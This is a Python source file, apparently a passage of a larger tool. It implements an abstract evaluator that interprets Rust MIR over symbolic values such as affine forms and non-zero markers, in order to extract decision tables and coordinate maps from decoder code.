"""A small abstract evaluator for straight-line / branching MIR over a pluggable value domain.

Used to extract decision tables of boolean header predicates (finite abstraction of their inputs) and the affine
coordinate maps of the orientation code (symbolic affine forms).  Nothing of the decoder is executed: MIR facts are
interpreted over abstract values; a construct the evaluator does not understand raises Unsupported (fail closed).
"""
from fractions import Fraction

from .facts import callee, op_place, op_const


class Unsupported(Exception):
    pass


def _tdiv(a, b):
    """integer division as the machine does it (truncates toward zero)"""
    q = abs(a) // abs(b)
    return q if (a >= 0) == (b >= 0) else -q


class Affine:
    """c0 + sum ci * var_i  with rational coefficients"""
    __slots__ = ("c",)

    def __init__(self, c=None):
        self.c = dict(c or {})

    @staticmethod
    def var(name):
        return Affine({name: Fraction(1)})

    @staticmethod
    def const(k):
        return Affine({1: Fraction(k)}) if k else Affine()

    def _bin(self, o, sign):
        if isinstance(o, int):
            o = Affine.const(o)
        if not isinstance(o, Affine):
            raise Unsupported("affine op with %r" % (o,))
        r = dict(self.c)
        for k, v in o.c.items():
            r[k] = r.get(k, 0) + sign * v
        return Affine({k: v for k, v in r.items() if v != 0})

    def __add__(self, o):
        return self._bin(o, 1)

    def __radd__(self, o):
        return self._bin(o, 1)

    def __sub__(self, o):
        return self._bin(o, -1)

    def __rsub__(self, o):
        return Affine.const(o)._bin(self, -1) if isinstance(o, int) else NotImplemented

    def __eq__(self, o):
        if isinstance(o, int):
            o = Affine.const(o)
        return isinstance(o, Affine) and self.c == o.c

    def __hash__(self):
        return hash(tuple(sorted((str(k), v) for k, v in self.c.items())))

    def is_const(self):
        return all(k == 1 for k in self.c)

    def __repr__(self):
        if not self.c:
            return "0"
        parts = []
        for k, v in sorted(self.c.items(), key=lambda kv: str(kv[0])):
            if k == 1:
                parts.append(str(v))
            elif v == 1:
                parts.append(str(k))
            elif v == -1:
                parts.append("-" + str(k))
            else:
                parts.append("%s*%s" % (v, k))
        return " + ".join(parts).replace("+ -", "- ")


class NonZero:
    """an unknown unsigned integer that is known to be != 0: only (in)equality with 0 is decidable"""
    __slots__ = ()

    def __repr__(self):
        return "nonzero"


class Ref:
    __slots__ = ("key",)

    def __init__(self, key):
        self.key = key  # ('local', frame id, local, proj...) or ('ext', path...)

    def __repr__(self):
        return "&%s" % (self.key,)


class Enum:
    __slots__ = ("adt", "idx", "name", "fields")

    def __init__(self, adt, idx, name, fields=()):
        self.adt, self.idx, self.name, self.fields = adt, idx, name, list(fields)

    def __eq__(self, o):
        return isinstance(o, Enum) and (self.adt, self.idx, self.fields) == (o.adt, o.idx, o.fields)

    def __hash__(self):
        return hash((self.adt, self.idx))

    def __repr__(self):
        return "%s::%s%s" % (self.adt.split("::")[-1], self.name, tuple(self.fields) if self.fields else "")


class BufView:
    """a (mutable) slice: a window into a Python list shared by every view / element reference made from it"""
    __slots__ = ("buf", "off", "n")

    def __init__(self, buf, off=0, n=None):
        self.buf, self.off = buf, off
        self.n = len(buf) - off if n is None else n

    def get(self, i):
        if not 0 <= i < self.n:
            raise Unsupported("slice index %d out of range %d" % (i, self.n))
        return self.buf[self.off + i]

    def set(self, i, v):
        if not 0 <= i < self.n:
            raise Unsupported("slice index %d out of range %d" % (i, self.n))
        self.buf[self.off + i] = v

    def sub(self, a, b):
        if not 0 <= a <= b <= self.n:
            raise Unsupported("sub-slice %d..%d out of range %d" % (a, b, self.n))
        return BufView(self.buf, self.off + a, b - a)

    def items(self):
        return [self.buf[self.off + i] for i in range(self.n)]

    def __repr__(self):
        return "view%s" % (self.items()[:8],)


class ElemRef:
    """a reference to one element of a modelled mutable buffer (a Python list shared by every reference to it)"""
    __slots__ = ("buf", "i")

    def __init__(self, buf, i):
        self.buf, self.i = buf, i

    def __repr__(self):
        return "&buf[%d]" % self.i


class PyIter:
    """an iterator over known integers (mutable: `next` advances it in place)"""
    __slots__ = ("items", "pos")

    def __init__(self, items):
        self.items = list(items)
        self.pos = 0

    def __repr__(self):
        return "iter%s@%d" % (self.items[:6], self.pos)


class CursorV:
    """std::io::Cursor over a byte slice"""
    __slots__ = ("view", "pos")

    def __init__(self, view, pos=0):
        self.view, self.pos = view, pos

    def __repr__(self):
        return "cursor@%d/%d" % (self.pos, self.view.n)


class RefSlice:
    """`slice::from_mut(&mut x)`: a one-element slice that aliases a local"""
    __slots__ = ("ref",)

    def __init__(self, ref):
        self.ref = ref


class BoxCell:
    """`Box::new_uninit()` as the `vec![..]` macro uses it: storage that is written once and turned into a Vec"""
    __slots__ = ("value",)

    def __init__(self):
        self.value = None


class Thunk:
    """an element of a lazily mapped iterator: closure applied to the item when the element is consumed"""
    __slots__ = ("cl", "x", "done", "val")

    def __init__(self, cl, x):
        self.cl, self.x, self.done, self.val = cl, x, False, None


class Struct:
    __slots__ = ("fields", "closure")

    def __init__(self, fields):
        self.fields = list(fields)
        self.closure = None

    def __repr__(self):
        return "struct%s" % (self.fields,)


UNKNOWN = object()


class Frame:
    _n = 0

    def __init__(self, fn):
        Frame._n += 1
        self.id = Frame._n
        self.fn = fn
        self.env = {}


class Evaluator:
    """ext(path) -> value for reads below an external reference root: path = (root name, field names / 'as V' ...)"""

    def __init__(self, prog, ext=None, max_steps=20000, on_fork=None):
        self.prog = prog
        self.ext = ext or (lambda path: UNKNOWN)
        self.max_steps = max_steps
        self.steps = 0
        self.frames = {}

    # -- places ---------------------------------------------------------------------------
    def read_place(self, fr, p):
        base = fr.env.get(p[0], UNKNOWN)
        return self.project(fr, base, p[1:], ("local", fr.id, p[0]))

    def project(self, fr, val, proj, key):
        for e in proj:
            if isinstance(e, tuple):
                e = list(e)      # projections stored inside a reference key are tuples
            if isinstance(val, BoxCell):
                continue            # the box, its pointer fields and its storage are one object here
            if e == "*":
                if isinstance(val, tuple) and len(val) == 3 and val[0] == "const" and str(val[1]).startswith('b"'):
                    val = parse_byte_string(val[1])     # a byte-string literal: the pointee is the array of its bytes
                    continue
                if isinstance(val, ElemRef):
                    val = val.buf[val.i]
                    continue
                if isinstance(val, (BufView, RefSlice, CursorV)) or (isinstance(val, tuple) and val and all(isinstance(q, int) and not isinstance(q, bool) for q in val)):
                    continue            # a slice reference and the slice it points to are one value here
                if isinstance(val, (int, float)) and not isinstance(val, bool):
                    continue            # a reference to a scalar that a modelled iterator adaptor already read (`*iter.max().unwrap()`)
                if not isinstance(val, Ref):
                    raise Unsupported("deref of non-reference %r" % (val,))
                k = val.key
                if k[0] == "ext":
                    val = ExtPlace(k[1:])
                else:
                    f2 = self.frames[k[1]]
                    val = f2.env.get(k[2], UNKNOWN)
                    val = self.project(f2, val, k[3:], k[:3])
                key = k
            elif isinstance(e, list) and e[0] == ".":
                if isinstance(val, ExtPlace):
                    val = ExtPlace(val.path + ((e[2] if e[2] is not None else str(e[1])),))
                elif isinstance(val, (Struct,)):
                    val = val.fields[e[1]]
                elif isinstance(val, Enum):
                    val = val.fields[e[1]]
                elif isinstance(val, tuple):
                    val = val[e[1]]
                else:
                    raise Unsupported("field of %r" % (val,))
            elif isinstance(e, list) and e[0] == "as":
                if isinstance(val, ExtPlace):
                    val = ExtPlace(val.path + ("as " + e[1],))
                elif isinstance(val, Enum):
                    if val.idx != e[2]:
                        raise Unsupported("downcast to wrong variant")
                else:
                    raise Unsupported("downcast of %r" % (val,))
            elif isinstance(e, list) and e[0] == "[c]":
                seq = val.items() if isinstance(val, BufView) else val
                if isinstance(seq, ExtPlace):
                    seq = self.ext(seq.path)
                if not isinstance(seq, (tuple, list)):
                    raise Unsupported("constant index of %r" % (val,))
                i = len(seq) - e[1] if len(e) > 3 and e[3] else e[1]
                if not 0 <= i < len(seq):
                    raise Unsupported("constant index %d out of range %d" % (i, len(seq)))
                val = seq[i]
            elif isinstance(e, list) and e[0] == "[k]":
                if isinstance(val, BufView):
                    val = val.get(e[1])
                elif isinstance(val, (tuple, list)) and 0 <= e[1] < len(val):
                    val = val[e[1]]
                else:
                    raise Unsupported("constant index %r of %r" % (e[1], val))
            elif isinstance(e, list) and e[0] == "[]":
                i = fr.env.get(e[1], UNKNOWN)
                if isinstance(val, BufView) and isinstance(i, int):
                    val = val.get(i)
                    continue
                if isinstance(val, ExtPlace):
                    val = self.ext(val.path)
                if not isinstance(i, int) or not isinstance(val, (tuple, list)) or not 0 <= i < len(val):
                    raise Unsupported("index %r of %r" % (i, val))
                val = val[i]
            else:
                raise Unsupported("projection %r" % (e,))
        if isinstance(val, ExtPlace):
            v = self.ext(val.path)
            if v is UNKNOWN:
                return val
            return v
        return val

    def _concrete(self, fr, proj):
        """index projections name a local of the CURRENT frame: fix their value before the projection leaves the frame"""
        out = []
        for e in proj:
            if isinstance(e, (list, tuple)) and len(e) == 2 and e[0] == "[]":
                i = fr.env.get(e[1], UNKNOWN)
                if not isinstance(i, int):
                    raise Unsupported("reference to an element at an unknown index")
                out.append(["[k]", i])
            else:
                out.append(e)
        return out

    def place_ref(self, fr, p):
        """a reference value to place p"""
        if any(isinstance(e, (list, tuple)) and len(e) == 2 and e[0] == "[]" for e in p[1:]):
            p = [p[0]] + self._concrete(fr, p[1:])
            # a reference to an element of a modelled buffer is an element reference
            try:
                base = self.read_place(fr, p[:-1]) if isinstance(p[-1], list) and p[-1][0] == "[k]" else None
            except Unsupported:
                base = None
            if isinstance(base, BufView):
                if not 0 <= p[-1][1] < base.n:
                    raise Unsupported("element reference out of range")
                return ElemRef(base.buf, base.off + p[-1][1])
        # reference to something below an external root?
        base = fr.env.get(p[0], UNKNOWN)
        if p[1:] and p[1] == "*" and isinstance(base, Ref):
            k = base.key
            rest = p[2:]
            if k[0] == "ext":
                path = k[1:]
                for e in rest:
                    if isinstance(e, list) and e[0] == ".":
                        path = path + ((e[2] if e[2] is not None else str(e[1])),)
                    elif isinstance(e, list) and e[0] == "as":
                        path = path + ("as " + e[1],)
                    elif e == "*":
                        v = self.ext(path)
                        if isinstance(v, Ref):
                            path = v.key[1:]
                        else:
                            raise Unsupported("deref inside ext")
                    else:
                        raise Unsupported("ref projection")
                return Ref(("ext",) + path)
            return Ref(k + tuple(tuple(x) if isinstance(x, list) else x for x in rest))
        return Ref(("local", fr.id, p[0]) + tuple(tuple(x) if isinstance(x, list) else x for x in p[1:]))

    def write_place(self, fr, p, val):
        if len(p) == 1:
            fr.env[p[0]] = val
            return
        # writes through projections: only tuple/struct field of a local, or deref of local ref
        if p[1] == "*":
            base = fr.env.get(p[0])
            if isinstance(base, BoxCell):
                base.value = val
                return
            if isinstance(base, ElemRef) and len(p) == 2:
                base.buf[base.i] = val
                return
            if isinstance(base, ElemRef) and len(p) == 3 and isinstance(p[2], list) and p[2][0] == ".":
                cur = base.buf[base.i]
                if isinstance(cur, Struct):
                    cur.fields[p[2][1]] = val
                    return
                if isinstance(cur, tuple) and 0 <= p[2][1] < len(cur):
                    lst = list(cur)
                    lst[p[2][1]] = val
                    base.buf[base.i] = tuple(lst)
                    return
            if isinstance(base, BufView) and len(p) == 3 and isinstance(p[2], list) and p[2][0] == "[k]":
                base.set(p[2][1], val)
                return
            if isinstance(base, BufView) and len(p) == 3 and isinstance(p[2], list) and p[2][0] == "[]":
                i = fr.env.get(p[2][1], UNKNOWN)
                if not isinstance(i, int):
                    raise Unsupported("store at an unknown index")
                base.set(i, val)
                return
            if isinstance(base, Ref) and base.key[0] == "local":
                f2 = self.frames[base.key[1]]
                self.write_place(f2, [base.key[2]] + [list(x) if isinstance(x, tuple) else x for x in base.key[3:]] + self._concrete(fr, p[2:]), val)
                return
            raise Unsupported("store through external reference")
        cur = fr.env.get(p[0], UNKNOWN)
        if isinstance(p[1], list) and p[1][0] in ("[]", "[k]") and len(p) == 2:
            i = fr.env.get(p[1][1], UNKNOWN) if p[1][0] == "[]" else p[1][1]
            if isinstance(cur, BufView) and isinstance(i, int):
                cur.set(i, val)
                return
            if isinstance(cur, tuple) and isinstance(i, int) and 0 <= i < len(cur):
                lst = list(cur)
                lst[i] = val
                fr.env[p[0]] = tuple(lst)
                return
            raise Unsupported("indexed store to %r" % (cur,))
        if isinstance(p[1], list) and p[1][0] == "." and len(p) == 2:
            idx = p[1][1]
            if isinstance(cur, tuple):
                lst = list(cur)
            elif isinstance(cur, Struct):
                cur.fields[idx] = val
                return
            else:
                lst = []
            while len(lst) <= idx:
                lst.append(UNKNOWN)
            lst[idx] = val
            fr.env[p[0]] = tuple(lst)
            return
        raise Unsupported("store to %r" % (p,))

    # -- operands / rvalues ------------------------------------------------------------------
    def operand(self, fr, o):
        if o[0] in ("c", "m"):
            return self.read_place(fr, o[1])
        c = op_const(o)
        if c is None:
            raise Unsupported("operand %r" % (o,))
        if "fn" in c:
            return ("fn", c)
        if "v" in c:
            return int(c["v"])
        if "item" in c:
            v = self.const_item(c["item"])
            if v is not UNKNOWN:
                return v
            f2 = self.prog.fn(c["item"])
            if f2 is not None:
                return self.call_fn(f2, [])
        s = c.get("s", "")
        if s in getattr(self, "const_params", {}):
            return self.const_params[s]     # a const generic parameter fixed by the caller of the evaluator
        if s == "()":
            return ()
        try:
            return float(s[:-3] if s.endswith(("f32", "f64")) and s[:-3] and s[-4] not in "xX" else s)
        except ValueError:
            pass
        if "::" in s and not s.startswith('b"'):
            import math
            stdc = {"SQRT_2": math.sqrt(2.0), "FRAC_1_SQRT_2": 1 / math.sqrt(2.0), "PI": math.pi, "FRAC_PI_2": math.pi / 2, "FRAC_PI_4": math.pi / 4,
                    "TAU": 2 * math.pi, "E": math.e, "LN_2": math.log(2.0), "EPSILON": 2.0 ** -23, "MANTISSA_DIGITS": 24}
            tail_ = s.split(":: ")[0].strip()
            if (tail_.startswith("core::f32::") or tail_.startswith("std::f32::") or tail_.startswith("core::f64::") or tail_.startswith("std::f64::")) \
                    and tail_.split("::")[-1] in stdc:
                return stdc[tail_.split("::")[-1]]
            v = self.const_item(s.split(":: ")[0].strip())
            if v is not UNKNOWN:
                return v
        return ("const", s, c.get("ty"))

    def const_item(self, path):
        """the value rustc evaluated for a named constant (numbers and nested arrays of numbers only)"""
        from . import constval
        try:
            cr = self.prog.crate(path.split("::")[0])
        except Exception:
            return UNKNOWN
        k = getattr(cr, "consts", {}).get(path) if cr is not None else None
        if k is None or "value" not in k:
            return UNKNOWN
        try:
            v = constval.parse(k["value"])
        except ValueError:
            return UNKNOWN

        def conv(x):
            if isinstance(x, (bytes, bytearray)):
                return tuple(x)
            if isinstance(x, list):
                return tuple(conv(y) for y in x)
            if isinstance(x, (int, float)) and not isinstance(x, bool):
                return x
            raise ValueError
        try:
            return conv(v)
        except ValueError:
            return UNKNOWN

    def binop(self, op, a, b):
        if isinstance(a, NonZero) or isinstance(b, NonZero):
            other = b if isinstance(a, NonZero) else a
            if isinstance(other, bool):
                other = int(other)
            if other == 0 and isinstance(other, int) and op in ("Eq", "Ne"):
                return int(op == "Ne")
            if other == 0 and isinstance(other, int) and op in ("Gt", "Lt", "Ge", "Le"):
                # unsigned: nonzero > 0, nonzero >= 0 ; 0 < nonzero, 0 <= nonzero
                nz_left = isinstance(a, NonZero)
                return int((op in ("Gt", "Ge")) == nz_left)
            raise Unsupported("comparison of an abstract non-zero value with %r" % (other,))
        if op in ("Eq", "Ne") and isinstance(a, tuple) and isinstance(b, tuple) and len(a) == len(b) \
                and all(isinstance(q, (int, float)) for q in a + b):
            return int((a == b) == (op == "Eq"))      # arrays of numbers compare element-wise
        if op.endswith("WithOverflow"):
            return (self.binop(op[: -len("WithOverflow")], a, b), 0)
        op = op.replace("Unchecked", "")
        if isinstance(a, Affine) or isinstance(b, Affine):
            if op == "Add":
                return (a + b) if isinstance(a, Affine) else (b + a)
            if op == "Sub":
                return (a - b) if isinstance(a, Affine) else (Affine.const(a) - b)
            if op in ("Eq", "Ne") and isinstance(a, Affine) and isinstance(b, Affine) and a.is_const() and b.is_const():
                return int((a == b) == (op == "Eq"))
            raise Unsupported("affine %s" % op)
        if isinstance(a, Enum) and isinstance(b, Enum):
            if op == "Eq":
                return int(a == b)
            if op == "Ne":
                return int(a != b)
        if isinstance(a, bool):
            a = int(a)
        if isinstance(b, bool):
            b = int(b)
        if isinstance(a, (int, float)) and isinstance(b, (int, float)):
            try:
                return {
                    "Add": lambda: a + b, "Sub": lambda: a - b, "Mul": lambda: a * b,
                    "Div": lambda: _tdiv(a, b) if isinstance(a, int) and isinstance(b, int) else a / b,
                    "Rem": lambda: a - b * _tdiv(a, b) if isinstance(a, int) and isinstance(b, int) else a % b,
                    "Eq": lambda: int(a == b), "Ne": lambda: int(a != b), "Lt": lambda: int(a < b), "Le": lambda: int(a <= b),
                    "Gt": lambda: int(a > b), "Ge": lambda: int(a >= b), "BitAnd": lambda: a & b, "BitOr": lambda: a | b,
                    "BitXor": lambda: a ^ b, "Shl": lambda: a << b, "Shr": lambda: a >> b,
                }[op]()
            except KeyError:
                raise Unsupported("binop %s" % op)
        raise Unsupported("binop %s on %r, %r" % (op, a, b))

    def rvalue(self, fr, rv):
        k = rv[0]
        if k == "use":
            return self.operand(fr, rv[1])
        if k == "ref" or k == "rawptr":
            return self.place_ref(fr, rv[2])
        if k == "cast":
            v = self.operand(fr, rv[2])
            if isinstance(v, BoxCell):
                # the pointer checks rustc inserts in debug builds look at the address: a non-null, aligned one
                return 4096 if rv[1] == "Transmute" and rv[3] == "usize" else v
            if rv[1] == "IntToFloat" and isinstance(v, int) and not isinstance(v, bool):
                return float(v)
            if rv[1] in ("IntToInt", "IntToFloat", "FloatToFloat", "Transmute", "PtrToPtr", "Subtype") or rv[1].startswith("Coerce"):
                if rv[1] == "IntToInt" and isinstance(v, int) and rv[3] in ("u8", "u16", "u32", "u64", "usize") and v < 0:
                    if not getattr(self, "wrap_casts", False):
                        raise Unsupported("negative to unsigned cast")
                    v &= (1 << {"u8": 8, "u16": 16, "u32": 32, "u64": 64, "usize": 64}[rv[3]]) - 1
                if rv[1] == "IntToInt" and isinstance(v, int) and not isinstance(v, bool):
                    bits = {"u8": 8, "u16": 16, "u32": 32, "i8": 8, "i16": 16, "i32": 32, "u64": 64, "i64": 64, "usize": 64, "isize": 64}.get(rv[3])
                    if bits and not -(1 << (bits - 1)) <= v < (1 << bits):
                        v &= (1 << bits) - 1         # a narrowing cast keeps the low bits
                        if rv[3].startswith("i") and v >= 1 << (bits - 1):
                            v -= 1 << bits
                    elif bits and rv[3].startswith("i") and v >= 1 << (bits - 1):
                        v -= 1 << bits
                return v
            if rv[1] == "FloatToInt" and isinstance(v, float):
                if v != v:
                    return 0
                bits = {"u8": 8, "u16": 16, "u32": 32, "u64": 64, "usize": 64, "i8": 8, "i16": 16, "i32": 32, "i64": 64, "isize": 64}.get(rv[3])
                if bits:                     # `as` saturates
                    lo, hi = (0, (1 << bits) - 1) if rv[3].startswith("u") else (-(1 << (bits - 1)), (1 << (bits - 1)) - 1)
                    return max(lo, min(hi, int(v))) if abs(v) != float("inf") else (hi if v > 0 else lo)
                return int(v)
            if rv[1] == "IntToFloat" and isinstance(v, int) and not isinstance(v, bool):
                return float(v)
            return v
        if k == "bin":
            return self.binop(rv[1], self.operand(fr, rv[2]), self.operand(fr, rv[3]))
        if k == "un":
            v = self.operand(fr, rv[2])
            if rv[1] == "Not":
                if isinstance(v, int):
                    return int(not v) if v in (0, 1) else ~v
            if rv[1] == "Neg":
                if isinstance(v, (int, float)):
                    return -v
                if isinstance(v, Affine):
                    return Affine.const(0) - v
            if rv[1] == "PtrMetadata":
                w = self.deref_val(v) if isinstance(v, Ref) else v
                if isinstance(w, BufView):
                    return w.n
                if isinstance(w, (tuple, list)):
                    return len(w)
            raise Unsupported("unop %s on %r" % (rv[1], v))
        if k == "repeat":
            n = int(rv[2]) if str(rv[2]).isdigit() else None
            if n is None or n > 1 << 16:
                raise Unsupported("array repeat with a non-constant length")
            v0 = self.operand(fr, rv[1])
            if isinstance(v0, Struct) and not getattr(v0, "closure", None):
                return BufView([Struct(list(v0.fields)) for _ in range(n)])
            return BufView([v0] * n)       # `[x; N]`: a buffer, so that sub-slices of it can be written
        if k == "rawptr" and rv[1] == "FakeForPtrMetadata":
            return self.read_place(fr, rv[2]) if len(rv) > 2 else UNKNOWN
        if k == "discr":
            v = self.read_place(fr, rv[1])
            if isinstance(v, Enum) and v.adt == "core::cmp::Ordering":
                return {"Less": -1, "Equal": 0, "Greater": 1}[v.name]
            if isinstance(v, Enum):
                a = self.adt(v.adt) if "::" in str(v.adt) and not str(v.adt).startswith("core::") else None
                try:
                    dv = a["variants"][v.idx].get("discr") if a else None
                except (IndexError, KeyError, TypeError):
                    dv = None
                if dv is not None:
                    try:
                        return int(dv)       # explicit discriminant (`Pq = 16`)
                    except (TypeError, ValueError):
                        pass
                return v.idx
            if isinstance(v, ExtPlace):
                d = self.ext(v.path + ("#discr",))
                if d is not UNKNOWN:
                    return d
            raise Unsupported("discriminant of %r" % (v,))
        if k == "agg":
            kind = rv[1]
            ops = [self.operand(fr, o) for o in rv[2]]
            if kind[0] == "tuple":
                return tuple(ops)
            if kind[0] == "adt":
                adt = self.adt(kind[1])
                if adt is not None and adt["kind"] == "enum" or kind[1] in ("core::option::Option", "core::result::Result"):
                    return Enum(kind[1], kind[3], kind[2], ops)
                return Struct(ops)
            if kind[0] == "array":
                return tuple(ops)
            if kind[0] == "closure":
                st = Struct(ops)      # the captured variables, in capture order
                st.closure = kind[1]
                return st
            raise Unsupported("aggregate %s" % kind[0])
        raise Unsupported("rvalue %s" % k)

    def adt(self, path):
        cn = path.split("::")[0]
        c = self.prog.crates.get(cn)
        return c.adts.get(path) if c else None

    # -- calls ---------------------------------------------------------------------------------
    def call(self, fr, t):
        c = callee(t)
        if c is None:
            raise Unsupported("indirect call")
        args = [self.operand(fr, a) for a in t[2]]
        name = c.get("res", c["fn"])
        short = c["fn"]
        for suffix, hook in getattr(self, "intercept", {}).items():
            if name.endswith(suffix) or short.endswith(suffix):
                return hook(args)       # a callee the caller of the evaluator models itself (e.g. a scripted bit source)
        if short.startswith("core::cmp::PartialOrd::") and "tracing_core::metadata::Level" in " ".join(str(q) for q in (c.get("args") or [])):
            return 0        # `tracing` events: the level test is modelled as "disabled" (no subscriber), so the event body is skipped
        if short.endswith("ops::try_trait::Try::branch") and len(args) == 1 and isinstance(args[0], Enum) and args[0].name in ("Ok", "Err", "Some", "None"):
            o = args[0]
            if o.name in ("Ok", "Some"):
                return Enum("core::ops::control_flow::ControlFlow", 0, "Continue", [o.fields[0]])
            return Enum("core::ops::control_flow::ControlFlow", 1, "Break", [Enum(o.adt, o.idx, o.name, list(o.fields))])
        # local function with a body
        f2 = self.prog.fn(name) or self.prog.fn(c["fn"])
        if f2 is not None and len(f2.blocks) < 400:
            if f2.kind == "Closure" and short.startswith("core::ops::function::Fn") and len(args) == 2 and isinstance(args[1], tuple):
                args = [args[0]] + list(args[1])    # rust-call ABI: the argument tuple is spread over the closure's parameters
            return self.call_fn(f2, args)
        if short.split("::<")[0] in ("core::ops::deref::Deref::deref", "core::ops::deref::DerefMut::deref_mut", "core::convert::AsRef::as_ref",
                                     "core::borrow::Borrow::borrow") and args and isinstance(args[0], Ref):
            return args[0]      # smart-pointer deref: the pointee is addressed by the same access path
        if short == "core::default::Default::default" and not args and c.get("args") and c["args"][0] in (
                "u8", "u16", "u32", "u64", "usize", "i8", "i16", "i32", "i64", "isize", "bool"):
            return 0
        if short == "core::array::from_fn" and len(args) == 1 and c.get("args") and len(c["args"]) >= 2 and str(c["args"][1]).isdigit():
            return tuple(self._call_closure(args[0], [i]) for i in range(int(c["args"][1])))
        if short in ("core::cmp::PartialEq::eq", "core::cmp::PartialEq::ne"):
            a, b = self.deref_val(args[0]), self.deref_val(args[1])
            r = self.binop("Eq", a, b)
            return r if short.endswith("eq") else int(not r)
        if short in ("core::convert::From::from", "core::convert::Into::into", "core::clone::Clone::clone", "core::borrow::Borrow::borrow"):
            return self.deref_val(args[0]) if short.endswith("clone") else args[0]
        if short.startswith("core::num::<impl u8>::") and short.split("::")[-1].startswith(("is_ascii", "to_ascii", "eq_ignore_ascii")) and args:
            vals = [self.deref_val(a) if isinstance(a, (Ref, ElemRef)) else a for a in args]
            if all(isinstance(v, int) and not isinstance(v, bool) and 0 <= v <= 255 for v in vals):
                ch = chr(vals[0]) if vals[0] < 128 else ""
                import string as _st
                m_ = short.split("::")[-1]
                preds = {"is_ascii": vals[0] < 128, "is_ascii_alphabetic": bool(ch) and ch in _st.ascii_letters, "is_ascii_digit": bool(ch) and ch in _st.digits,
                         "is_ascii_alphanumeric": bool(ch) and ch in _st.ascii_letters + _st.digits, "is_ascii_uppercase": bool(ch) and ch in _st.ascii_uppercase,
                         "is_ascii_lowercase": bool(ch) and ch in _st.ascii_lowercase, "is_ascii_hexdigit": bool(ch) and ch in _st.hexdigits,
                         "is_ascii_punctuation": bool(ch) and ch in _st.punctuation, "is_ascii_graphic": 33 <= vals[0] <= 126,
                         "is_ascii_whitespace": vals[0] in (32, 9, 10, 12, 13), "is_ascii_control": vals[0] < 32 or vals[0] == 127}
                if m_ in preds:
                    return int(preds[m_])
                if m_ == "to_ascii_lowercase":
                    return vals[0] + 32 if 65 <= vals[0] <= 90 else vals[0]
                if m_ == "to_ascii_uppercase":
                    return vals[0] - 32 if 97 <= vals[0] <= 122 else vals[0]
        if short.startswith("core::num::<impl ") and all(isinstance(a, int) for a in args):
            ity = short[len("core::num::<impl "):].split(">")[0]
            meth = short.split("::")[-1]
            bits = {"u8": 8, "u16": 16, "u32": 32, "u64": 64, "usize": 64, "i8": 8, "i16": 16, "i32": 32, "i64": 64, "isize": 64}.get(ity)
            if bits and meth in ("wrapping_add", "wrapping_sub", "wrapping_add_signed", "wrapping_mul"):
                r = {"wrapping_add": args[0] + args[1], "wrapping_add_signed": args[0] + args[1],
                     "wrapping_sub": args[0] - args[1], "wrapping_mul": args[0] * args[1]}[meth]
                r &= (1 << bits) - 1
                if ity.startswith("i") and r >= 1 << (bits - 1):
                    r -= 1 << bits
                return r
            if bits and all(isinstance(a, int) and not isinstance(a, bool) for a in args):
                sg = ity.startswith("i")
                lo, hi = (-(1 << (bits - 1)), (1 << (bits - 1)) - 1) if sg else (0, (1 << bits) - 1)

                def wrap(r):
                    r &= (1 << bits) - 1
                    return r - (1 << bits) if sg and r > hi else r

                def some(r):
                    return Enum("core::option::Option", 1, "Some", [r]) if lo <= r <= hi else Enum("core::option::Option", 0, "None", [])
                one = {"wrapping_neg": lambda: wrap(-args[0]), "unsigned_abs": lambda: abs(args[0]), "abs": lambda: abs(args[0]),
                       "signum": lambda: (args[0] > 0) - (args[0] < 0), "count_ones": lambda: bin(args[0] & ((1 << bits) - 1)).count("1"),
                       "leading_zeros": lambda: bits - (args[0] & ((1 << bits) - 1)).bit_length(),
                       "trailing_zeros": lambda: bits if args[0] & ((1 << bits) - 1) == 0 else ((args[0] & -args[0]).bit_length() - 1),
                       "next_power_of_two": lambda: 1 if args[0] <= 1 else 1 << (args[0] - 1).bit_length(),
                       "checked_neg": lambda: some(-args[0]), "swap_bytes": lambda: int.from_bytes((args[0] & ((1 << bits) - 1)).to_bytes(bits // 8, "little"), "big")}
                if len(args) == 1 and meth in one and (meth not in ("ilog2",)):
                    return one[meth]()
                if len(args) == 1 and meth == "ilog2" and args[0] > 0:
                    return args[0].bit_length() - 1
                if len(args) == 1 and meth == "checked_ilog2":
                    return some(args[0].bit_length() - 1) if args[0] > 0 else Enum("core::option::Option", 0, "None", [])
                two = {"checked_add": lambda: some(args[0] + args[1]), "checked_mul": lambda: some(args[0] * args[1]),
                       "saturating_mul": lambda: max(lo, min(hi, args[0] * args[1])), "wrapping_shl": lambda: wrap(args[0] << (args[1] % bits)),
                       "wrapping_shr": lambda: wrap((args[0] & ((1 << bits) - 1) if not sg else args[0]) >> (args[1] % bits)),
                       "pow": lambda: args[0] ** args[1], "wrapping_pow": lambda: wrap(args[0] ** args[1]),
                       "div_ceil": lambda: -((-args[0]) // args[1]) if args[1] > 0 and args[0] >= 0 else _tdiv(args[0], args[1]),
                       "rem_euclid": lambda: args[0] % abs(args[1]), "div_euclid": lambda: (args[0] - args[0] % abs(args[1])) // args[1],
                       "rotate_left": lambda: wrap(((args[0] & ((1 << bits) - 1)) << (args[1] % bits)) | ((args[0] & ((1 << bits) - 1)) >> (bits - args[1] % bits)))}
                if len(args) == 2 and meth in two and not (meth in ("div_ceil", "rem_euclid", "div_euclid") and args[1] == 0) and not (meth in ("pow", "wrapping_pow") and not 0 <= args[1] < 200):
                    return two[meth]()
            if bits and meth in ("saturating_add_unsigned", "saturating_sub_unsigned", "wrapping_add_unsigned", "wrapping_sub_unsigned",
                                 "checked_add_unsigned") and len(args) == 2:
                r = args[0] + args[1] if "add" in meth else args[0] - args[1]
                lo, hi = -(1 << (bits - 1)), (1 << (bits - 1)) - 1
                if meth.startswith("saturating"):
                    return max(lo, min(hi, r))
                if meth.startswith("checked"):
                    return Enum("core::option::Option", 1, "Some", [r]) if lo <= r <= hi else Enum("core::option::Option", 0, "None", [])
                r &= (1 << bits) - 1
                return r - (1 << bits) if r > hi else r
            if bits and meth == "is_power_of_two" and len(args) == 1:
                return int(args[0] > 0 and args[0] & (args[0] - 1) == 0)
            if bits and meth in ("saturating_sub", "saturating_add"):
                r = args[0] - args[1] if "sub" in meth else args[0] + args[1]
                lo, hi = (0, (1 << bits) - 1) if ity.startswith("u") else (-(1 << (bits - 1)), (1 << (bits - 1)) - 1)
                return max(lo, min(hi, r))
            if bits and meth in ("to_be_bytes", "to_le_bytes") and len(args) == 1:
                v = args[0] & ((1 << bits) - 1)
                bs = [(v >> (8 * i)) & 255 for i in range(bits // 8)]
                return tuple(reversed(bs)) if meth == "to_be_bytes" else tuple(bs)
            if meth in ("min", "max") and len(args) == 2:
                return min(args) if meth == "min" else max(args)
